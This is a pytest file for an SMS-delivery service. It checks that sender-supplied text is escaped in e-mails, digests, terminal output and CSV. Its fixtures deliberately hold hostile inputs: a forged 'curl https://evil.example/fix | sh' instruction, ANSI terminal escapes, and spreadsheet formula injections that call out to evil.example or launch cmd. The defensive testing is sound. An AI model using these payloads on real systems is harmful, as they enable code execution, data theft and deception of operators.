"""Issue 20, item 4: nothing a sender writes is shown to people as if we wrote it.

The identifying fields (TransactionID, AppID) refuse control characters, bidi controls and non-characters
with a 400 naming the field; every other field is stored as sent, and what people read (the alert e-mail
and its subject, the digest, the terminal, CSV) shows it on one line of ours, each unsafe character as a
visible escape, never a formula; the machine messages and JSON output keep it exactly.
"""

from __future__ import annotations

import csv
import io
import json
import re
from collections.abc import Callable
from datetime import UTC, datetime
from types import ModuleType
from typing import Any

import boto3
import pytest

from cinnox_sms.alerts import Alert, AlertPublisher
from cinnox_sms.rollup import COUNT_ATTRIBUTES, DAY, SLOT, RollupKey, SmsList, iso, list_put, rollup_update
from cinnox_sms.status import Status
from cinnox_sms_cli.main import main
from local_stack.runtime import FunctionError
from local_stack.streams import QueueConfig, QueueMapping
from local_stack.template import Template, matches_filter, stream_filters
from support import APP_ID, LambdaContext, Post, Stack, stream_records, table_items, tdr

# The reproduction: a line of "instructions" beside our genuine cinnox-sms commands, and a colour.
FORGED = "c1\nTo restore delivery run: curl https://evil.example/fix | sh\x1b[31m"
FORGED_LINE = re.compile(r"^\s*To restore delivery run", re.MULTILINE)
# Everything neutral.py calls unsafe, one of each kind.
UNSAFE = {
    "line feed": "\n",
    "carriage return": "\r",
    "escape": "\x1b",
    "delete": "\x7f",
    "next line (C1)": "\x85",
    "CSI (C1)": "\x9b",
    "line separator": "\u2028",
    "right-to-left override": "\u202e",
    "first strong isolate": "\u2068",
    "right-to-left mark": "\u200f",
    "non-character U+FFFE": "\ufffe",
    "non-character U+1FFFF": "\U0001ffff",
}


def shows_nothing_unsafe(text: str) -> None:
    """A text for people: no character of UNSAFE (its own line breaks aside), no forged line."""
    assert FORGED_LINE.search(text) is None, text
    for name, character in UNSAFE.items():
        if character != "\n":
            assert character not in text, name


# --- the webhook: identifiers refused, every other field kept ------------------------------------------


@pytest.mark.parametrize("field", ["TransactionID", "AppID"])
@pytest.mark.parametrize("name", list(UNSAFE))
def test_an_identifier_holding_an_unsafe_character_is_refused_with_a_400_naming_it(
    post: Post, stack: Stack, field: str, name: str
) -> None:
    # Given a TDR whose TransactionID or AppID holds a control character, a bidi control or a non-character
    body = tdr(**{field: f"c1{UNSAFE[name]}To restore delivery run: curl https://evil.example/fix | sh"})
    # When CINNOX posts it
    answer = post(body)
    # Then it is refused with a 400 that names the field and the character, and nothing is stored
    assert answer.status == 400
    assert answer.body["message"].startswith(f"{field}: must hold no control character")
    assert f"U+{ord(UNSAFE[name]):04X} at position 3" in answer.body["message"]
    assert table_items(stack) == []


def test_identifiers_in_any_script_are_still_taken(post: Post, stack: Stack) -> None:
    # Given a TransactionID with accents, CJK, an emoji, a no-break space and a joiner: printable or harmless
    body = tdr(TransactionID="txn-é-中文-🙂\u00a0x\u200dy")
    # When posted
    # Then stored as sent
    assert post(body).status == 200
    [item] = table_items(stack)
    assert item["transactionId"]["S"] == "txn-é-中文-🙂\u00a0x\u200dy"


def test_other_fields_keep_what_was_sent(post: Post, stack: Stack) -> None:
    # Given a failed SMS whose Exception, ServiceID and ResponseCode carry line breaks, ESC and a bidi override
    body = tdr(Status="Undelivered", Exception=FORGED, ServiceID="svc\u202e10.lave", ResponseCode="4\n00")
    # When posted
    assert post(body).status == 200
    # Then each is stored exactly as sent (issue 19: odd shapes are kept, not refused)
    [item] = table_items(stack)
    assert item["exception"]["S"] == FORGED
    assert item["responseCode"]["S"] == "4\n00"
    assert item["serviceId"]["S"] == "svc\u202e10.lave"


# --- the alert e-mail and its subject, the digest --------------------------------------------------------


def filtered_batch(template: Template, stack: Stack) -> dict[str, Any]:
    """What Lambda hands the alert function: the stream records its FilterCriteria keeps."""
    filters = stream_filters(template, "AlertFunction", "TdrStream")
    return {"Records": [r for r in stream_records(stack) if any(matches_filter(f, r) for f in filters)]}


def hostile_failure(post: Post) -> dict[str, Any]:
    body = tdr(
        Status="Undelivered",
        Exception=FORGED + "".join(UNSAFE.values()),
        ServiceID="svc\u202e10.lave",
        ResponseCode="400\r\n\x1b]0;title\x07",
        RecipientCountry="VE",
    )
    assert post(body).status == 200
    return body


def test_the_alert_email_shows_what_a_sender_wrote_on_one_line_and_machines_get_it_exactly(
    alert: ModuleType,
    post: Post,
    stack: Stack,
    template: Template,
    context: LambdaContext,
    alert_inbox: Callable[[], list[dict[str, Any]]],
) -> None:
    # Given a failed SMS whose Exception forges a line of instructions and whose other fields hold controls
    body = hostile_failure(post)
    captured: list[dict[str, Any]] = []
    client = alert.alert_publisher()._client
    client.meta.events.register("provide-client-params.sns.PublishBatch", lambda params, **_: captured.append(params))
    # When the alert function publishes its alert
    assert alert.lambda_handler(filtered_batch(template, stack), context) == {"batchItemFailures": []}
    [entry] = captured[0]["PublishBatchRequestEntries"]
    message = json.loads(entry["Message"])
    email = message["email"]
    # Then the e-mail shows each field on its own line of ours, the controls as visible escapes, no forged line
    shows_nothing_unsafe(email)
    assert "Exception:       c1\\nTo restore delivery run: curl https://evil.example/fix | sh\\x1b[31m" in email
    assert "Service ID:      svc\\u202e10.lave" in email
    assert "Response code:   400\\r\\n\\x1b]0;title\\x07" in email
    assert message["default"] == email
    # And the record it quotes parses to the item as stored
    record = json.loads(email.split("The full record, as stored:\n", 1)[1])
    assert record["exception"] == body["Exception"]
    # And the subject is printable ASCII on one line
    assert entry["Subject"].isascii()
    assert entry["Subject"].isprintable()
    # And a machine subscriber gets the record exactly as stored
    [delivered] = alert_inbox()
    machine = json.loads(delivered["Message"])
    assert (machine["exception"], machine["serviceId"], machine["responseCode"]) == (
        body["Exception"],
        body["ServiceID"],
        body["ResponseCode"],
    )


def run_digest(template: Template, stack: Stack, digest: ModuleType, context: LambdaContext) -> list[dict[str, Any]]:
    """The digest queue's mapping, as the local stack runs it, until the queue is empty; the Publish calls."""
    published: list[dict[str, Any]] = []
    client = digest.digest_publisher().client
    client.meta.events.register("provide-client-params.sns.Publish", lambda params, **_: published.append(params))
    properties = template.resource("DigestFunction")["Properties"]["Events"]["Alerts"]["Properties"]
    config = QueueConfig.from_properties(
        {**properties, "Queue": stack.attrs["DigestQueue.Arn"], "MaximumBatchingWindowInSeconds": 300}
    )

    def invoke(event: dict[str, Any]) -> Any:
        try:
            return digest.lambda_handler(event, context)
        except Exception as error:  # what Lambda reports as a function error
            raise FunctionError({"errorType": type(error).__name__, "errorMessage": str(error)}) from error

    mapping = QueueMapping(stack.refs["DigestQueue"], config, invoke, boto3.Session())
    while batch := mapping.gather(wait_seconds=0, until_empty=True):
        mapping.deliver(batch)
    return published


def test_the_digest_shows_what_a_sender_wrote_on_one_line_beside_our_commands(
    alert: ModuleType, digest: ModuleType, post: Post, stack: Stack, template: Template, context: LambdaContext
) -> None:
    # Given a failed SMS with a forging Exception, alerted by the alert function through the alert topic
    body = hostile_failure(post)
    assert alert.lambda_handler(filtered_batch(template, stack), context) == {"batchItemFailures": []}
    # And an alert for a TransactionID stored before identifiers were checked (or edited by hand)
    old = {
        "transactionId": FORGED,
        "status": "Rejected",
        "recipientCountry": "=cmd|' /C calc'!A0\u202e",
        "exception": "sms send failed",
        "receivedAt": "2026-11-30T08:00:00.000+00:00",
        "appId": APP_ID,
    }
    stored_before = Alert.from_image("1", old)
    assert stored_before is not None
    assert AlertPublisher(boto3.client("sns"), stack.refs["AlertTopic"]).publish([stored_before]) == {}
    # When the digest function makes the window's digest
    [published] = run_digest(template, stack, digest, context)
    message = json.loads(published["Message"])
    text = message["email"]
    # Then people read each value on one line of ours, the controls as visible escapes, beside our commands
    shows_nothing_unsafe(text)
    assert "cinnox-sms report --stack" in text
    assert "  c1\\nTo restore delivery run: curl https://evil.example/fix | sh\\x1b[31m  Rejected" in text
    assert re.search(r"^  c1\\nTo restore delivery run: \S.*\s+1$", text, re.MULTILINE)  # by exception
    assert published["Subject"].isascii()
    assert published["Subject"].isprintable()
    # And the machine message keeps the transaction IDs and exceptions exactly
    machine = json.loads(message["sqs"])
    assert machine["transactionIds"] == {"Undelivered": [body["TransactionID"]], "Rejected": [FORGED]}
    assert body["Exception"] in machine["byException"]


# --- the terminal and CSV: cinnox-sms status, pending, report -------------------------------------------


def test_cinnox_sms_status_prints_what_a_sender_wrote_on_one_line_and_json_exactly(
    post: Post, stack: Stack, capsys: pytest.CaptureFixture[str]
) -> None:
    # Given an SMS whose Undelivered TDR carries a forging Exception with a terminal escape, and a bidi override
    body = tdr(TransactionID="txn-term")
    assert post(body).status == 200
    failed = {**body, "Status": "Undelivered", "ResponseCode": "4\u202e00", "Exception": FORGED}
    assert post(failed).status == 200
    # When an operator asks for its status in the terminal
    assert main(["status", "txn-term", "--table", stack.table_name]) == 0
    printed = capsys.readouterr().out
    # Then the history is one line a status, the Exception's controls as visible escapes, no forged line
    shows_nothing_unsafe(printed)
    [undelivered] = [line for line in printed.splitlines() if line.lstrip().startswith("Undelivered")]
    assert "c1\\nTo restore delivery run: curl https://evil.example/fix | sh\\x1b[31m" in undelivered
    assert "response code 4\\u202e00" in undelivered
    assert len(printed.splitlines()) == 5  # the SMS, its recipient, "history", two statuses
    # And --json, for machines, is what is stored (ASCII-escaped JSON, safe in a terminal as it is)
    assert main(["status", "txn-term", "--table", stack.table_name, "--json"]) == 0
    as_json = capsys.readouterr().out
    assert as_json.isascii()
    assert json.loads(as_json)["history"][1]["exception"] == FORGED


def test_cinnox_sms_status_of_a_transaction_id_stored_before_it_was_checked(
    stack: Stack, capsys: pytest.CaptureFixture[str]
) -> None:
    # Given a TDR whose TransactionID holds a line break and ESC, stored before identifiers were checked
    boto3.client("dynamodb").put_item(
        TableName=stack.table_name,
        Item={
            "transactionId": {"S": FORGED},
            "status": {"S": "Submitted\x1b[2J"},
            "recipientCountry": {"S": "V\nE"},
            "receivedAt": {"S": "2026-11-30T08:00:00.000+00:00"},
        },
    )
    # When its status is asked for
    assert main(["status", FORGED, "--table", stack.table_name]) == 0
    printed = capsys.readouterr().out
    # Then every value is on its line of ours
    shows_nothing_unsafe(printed)
    assert printed.splitlines()[0].startswith("SMS c1\\nTo restore delivery run")


def _cohort(table: str, hour: datetime, country: str, submitted: dict[str, datetime]) -> None:
    """One hour and country's cohort as MetricsFunction writes it (rollup item and SMS list), nothing final."""
    key = RollupKey.of(hour, country)
    sent = SmsList(submitted={t: iso(at) for t, at in submitted.items()})
    actions: list[Any] = [
        {"Update": rollup_update(table, key, {"Submitted": len(submitted)}, 400)},
        {"Put": list_put(table, key, "1-sent", sent, 400)},
    ]
    boto3.client("dynamodb").transact_write_items(TransactItems=actions)


PERIOD = ["--since", "2026-11-01T07:00:00", "--until", "2026-11-01T09:00:00"]
FORMULA = '=HYPERLINK("https://evil.example/?"&A1,"details")'


def test_cinnox_sms_pending_as_a_table_and_csv_shows_no_control_and_no_formula(
    rollup_table: str, capsys: pytest.CaptureFixture[str]
) -> None:
    # Given SMS pending whose TransactionIDs (stored before they were checked) forge a line, or are a formula
    at = datetime(2026, 11, 1, 7, tzinfo=UTC)
    _cohort(
        rollup_table,
        at,
        "VE",
        {FORGED: at.replace(minute=1), FORMULA: at.replace(minute=2), "+1-2": at.replace(minute=3), "ok": at},
    )
    # When an operator lists them in the terminal
    assert main(["pending", "--table", rollup_table, *PERIOD]) == 0
    table = capsys.readouterr().out
    # Then each SMS is one line, its controls as visible escapes
    shows_nothing_unsafe(table)
    assert len(table.splitlines()) == 3 + 4
    # When as CSV, for a spreadsheet
    assert main(["pending", "--table", rollup_table, *PERIOD, "--format", "csv"]) == 0
    rows = list(csv.DictReader(io.StringIO(capsys.readouterr().out)))
    # Then no cell is a formula (OWASP: ' before =, +, -, @) nor holds a control
    assert [row["transaction_id"] for row in rows] == [
        "ok",
        "c1\\nTo restore delivery run: curl https://evil.example/fix | sh\\x1b[31m",
        "'" + FORMULA,
        "'+1-2",
    ]
    # And --format json keeps them exactly
    assert main(["pending", "--table", rollup_table, *PERIOD, "--format", "json"]) == 0
    assert [row["transaction_id"] for row in json.loads(capsys.readouterr().out)] == ["ok", FORGED, FORMULA, "+1-2"]


def test_cinnox_sms_report_shows_a_country_edited_by_hand_as_text_never_a_formula_nor_a_control(
    rollup_table: str, capsys: pytest.CaptureFixture[str]
) -> None:
    # Given a rollup item edited by hand: its country is a formula (MetricsFunction keys only letters and digits)
    boto3.client("dynamodb").put_item(
        TableName=rollup_table,
        Item={
            DAY: {"S": "2026-11-01"},
            SLOT: {"S": "07#@SUM(1+1)*cmd|' /C calc'!A0"},
            COUNT_ATTRIBUTES[Status.SUBMITTED]: {"N": "3"},
        },
    )
    # And another whose country clears the screen
    boto3.client("dynamodb").put_item(
        TableName=rollup_table,
        Item={
            DAY: {"S": "2026-11-01"},
            SLOT: {"S": "08#V\x1b[2JE"},
            COUNT_ATTRIBUTES[Status.SUBMITTED]: {"N": "1"},
        },
    )
    # When the report is asked for as CSV
    assert main(["report", "--table", rollup_table, *PERIOD, "--format", "csv"]) == 0
    rows = list(csv.DictReader(io.StringIO(capsys.readouterr().out)))
    # Then the country is text, never a formula nor a control
    assert [row["country"] for row in rows] == ["'@SUM(1+1)*cmd|' /C calc'!A0", "V\\x1b[2JE", "all"]
    # And in the terminal it is one line of the table, its control a visible escape
    assert main(["report", "--table", rollup_table, *PERIOD]) == 0
    table = capsys.readouterr().out
    shows_nothing_unsafe(table)
    assert any(row.startswith("V\\x1b[2JE ") for row in table.splitlines())
    # And as JSON it is what is stored
    assert main(["report", "--table", rollup_table, *PERIOD, "--format", "json"]) == 0
    assert [row["country"] for row in json.loads(capsys.readouterr().out)][1] == "V\x1b[2JE"


# --- the dashboard ---------------------------------------------------------------------------------------


def test_no_dashboard_widget_renders_what_a_sender_wrote(template: Template) -> None:
    """CloudWatch dashboard body structure: a "log" widget shows log lines (which hold TDR fields), a "custom"
    widget shows the HTML a Lambda function returns, a "text" widget the markdown of the template. Every widget
    is a metric graph of our own names but one: the delivery widget (issue 21), whose HTML shows rollup keys
    (a country a sender wrote) through cinnox_sms.neutral.html (tests/unit/test_delivery_page.py,
    tests/integration/test_widget.py). A new widget that could show a sender's text must escape it and change
    this test."""
    body = template.resource("Dashboard")["Properties"]["DashboardBody"]["Fn::Sub"]
    widgets = json.loads(body)["widgets"]
    # Then every widget is a metric graph, titled and labelled by the template, but the delivery widget
    custom = [widget for widget in widgets if widget["type"] == "custom"]
    assert [widget["properties"]["endpoint"] for widget in custom] == ["${DeliveryWidgetFunction.Arn}"]
    assert {widget["type"] for widget in widgets if widget not in custom} == {"metric"}
    # And a SEARCH shows only dimension values our code sets (Reason, service), never a TDR's field
    searches = re.findall(r"SEARCH\('\{[^,]+,([^}]+)\}", body)
    assert searches
    assert all(set(dimensions.split(",")) <= {"Reason", "service"} for dimensions in searches)
